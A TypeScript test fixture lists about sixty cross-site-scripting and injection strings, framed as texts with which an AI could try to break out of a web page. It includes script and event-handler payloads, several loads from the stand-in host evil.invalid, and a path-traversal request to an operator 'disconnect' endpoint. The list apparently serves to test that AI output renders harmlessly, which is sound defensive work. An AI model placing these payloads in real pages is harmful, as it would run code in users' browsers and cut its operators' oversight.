/** Holds sixty texts with which an AI could try to break out of a page; each would leave a mark or ask another host. */

/** A payload that runs leaves this mark in the page. */
export const MARK = "xss";

const RUN = `globalThis.${MARK}=1`;
/** Nobody serves this host: a request to it is already too much. */
const ELSEWHERE = "//evil.invalid/x";

/** Each text fits a field of 64 characters, but for those that are long on purpose. */
export const PAYLOADS: readonly string[] = [
  // These bring elements.
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT >`,
  `<script src=${ELSEWHERE}></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=${ELSEWHERE}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${MARK}=1</script>">`,
  `<iframe src=javascript:parent.${MARK}=1>`,
  `<object data=${ELSEWHERE}></object>`,
  `<embed src=${ELSEWHERE}>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<link rel=stylesheet href=${ELSEWHERE}>`,
  `<style>@import "${ELSEWHERE}";</style>`,
  `<style>*{display:none!important}</style>`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<base href=${ELSEWHERE}/>`,
  `<form action=${ELSEWHERE}><button autofocus>x`,
  `<math><mglyph><style><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src onerror=1>">`,
  `<template><script>${RUN}</script></template>`,
  // These close what surrounds them.
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus tabindex=0 '`,
  `\` onclick=${RUN} \``,
  `x onanimationstart=${RUN} style=animation:x`,
  `--><script>${RUN}</script><!--`,
  `<!--<script>`,
  `]]><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</pre></code><script>${RUN}</script>`,
  `</svg></text><script>${RUN}</script>`,
  // These are addresses.
  `javascript:${RUN}`,
  `JaVaScRiPt://%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `${ELSEWHERE}`,
  `../../operator/disconnect?ai_id=AI_Node_1`,
  `?q=x&token=y#z%00%2f..%2f`,
  // These are of templates, and of the formats in which data is written.
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `"},"x":"\\u003c/script\\u003e<script>${RUN}</script>`,
  `"]}];${RUN};//`,
  `\\"};${RUN}//\\`,
  `{a|${RUN}} {b} %s {@html x} __proto__ toString`,
  `expression(${RUN});x:url(${ELSEWHERE})`,
  // These cannot be seen, or reorder what can; a hub takes no NUL.
  `abc\u202e>tpircs<\u202c\u2066def\u2069`,
  `zero\u200bwidth\ufeff\u2060and\u00adsoft\u200d`,
  `\u0001\u0008\u007f\u001b[31mred\u001b]0;title\u0007\u009b2J`,
  `line\nbreak\r\nand\ttab\u2028and\u2029more`,
  `👩\u200d👩\u200d👧 e\u0301\u0301\u0301\u0301 \u{e0041}\u{e007f} ﷽ 🏴\u{e0067}`,
  // These are long, without a place to break.
  `${"W".repeat(64)}`,
];
